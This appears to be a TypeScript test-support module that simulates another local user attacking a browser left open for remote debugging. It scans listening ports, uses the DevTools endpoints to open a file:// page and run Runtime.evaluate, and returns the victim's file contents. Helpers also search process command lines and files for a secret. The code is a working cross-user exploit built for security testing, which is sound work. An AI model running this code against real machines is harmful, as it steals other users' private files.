// Another user of the machine who wants the debug browser: looks for its port where every user can, and has it
// read a file that only its own user may.
import { spawnSync } from "node:child_process";
import { readdirSync, readFileSync, statSync } from "node:fs";
import type { SecondUser } from "../../test/support/seconduser";
import { commandLine } from "./processes";

/** The TCP ports on this machine that somebody listens at, as every user can read them. */
function listening(): number[] {
  const lines = ["tcp", "tcp6"].flatMap((name) => readFileSync(`/proc/net/${name}`, "utf8").split("\n").slice(1));
  const fields = lines.map((line) => line.trim().split(/\s+/)).filter(([, , , state]) => state === "0A");
  return fields.map(([, local = ""]) => Number.parseInt(local.split(":")[1] ?? "", 16));
}

/**
 * Tries all ports, and returns what the file holds: once for each browser that shows a page of the site and has read
 * it. Other browsers of the machine are left alone.
 */
export async function attack(as: SecondUser, site: string, file: string): Promise<string[]> {
  const args = [listening(), site, file].map((each) => JSON.stringify(each));
  return JSON.parse(await as.node(`(${steal})(${args})`)) as string[];
}

/** Tries to open WebSockets, and returns the URLs that accepted them. */
export async function knock(as: SecondUser, urls: string[]): Promise<string[]> {
  const answer = await as.node(`(${open})(${JSON.stringify(urls)})`);
  return JSON.parse(answer) as string[];
}

/** The processes with a secret in their command lines, which every user can read. */
export function withArgument(secret: string): string[] {
  return readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name) && commandLine(Number(name)).includes(secret));
}

/** The files below a folder that hold a secret, with their modes. */
export function filesWith(secret: string, folder: string): { file: string; mode: number }[] {
  // Given by its input, since a command line is no place for it.
  const { stdout } = spawnSync("grep", ["-rlF", "-f", "-", folder], { input: `${secret}\n`, encoding: "utf8" });
  const files = stdout.split("\n").filter(Boolean);
  return files.map((file) => ({ file, mode: statSync(file).mode & 0o777 }));
}

const open = `async function (urls) {
  const opened = (url) => new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onerror = () => resolve(false);
    socket.onopen = () => { socket.close(); resolve(true); };
  });
  const into = [];
  for (const url of urls) if (await opened(url)) into.push(url);
  console.log(JSON.stringify(into));
}`;

/** Runs as the other user, by its text. */
const steal = `async function (ports, site, file) {
  const http = require("node:http");
  const ask = (port, path, method) => new Promise((resolve) => {
    const request = http.request({ host: "127.0.0.1", port, path, method, timeout: 5_000 }, (response) => {
      let text = "";
      response.on("data", (data) => { text += data; });
      response.on("end", () => { try { resolve(JSON.parse(text)); } catch { resolve(undefined); } });
    });
    request.on("timeout", () => request.destroy());
    request.on("error", () => resolve(undefined));
    request.end();
  });
  const evaluate = (url, expression) => new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    socket.onerror = () => reject(new Error("no connection"));
    const params = { expression, awaitPromise: true };
    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params }));
    socket.onmessage = ({ data }) => { socket.close(); resolve(JSON.parse(data).result.result.value); };
  });
  const loot = [];
  // All at once: some of them never answer.
  await Promise.all(ports.map(async (port) => {
    const list = await ask(port, "/json/list", "GET");
    if (!Array.isArray(list) || !list.some(({ url }) => String(url).startsWith(site))) return;
    const page = await ask(port, "/json/new?file://" + encodeURI(file), "PUT");
    const loaded = "new Promise((done) => " +
      "document.readyState === 'complete' ? done() : addEventListener('load', done))" +
      ".then(() => document.body.innerText)";
    loot.push(await evaluate(page.webSocketDebuggerUrl, loaded));
    await ask(port, "/json/close/" + page.id, "GET");
  }));
  console.log(JSON.stringify(loot));
}`;
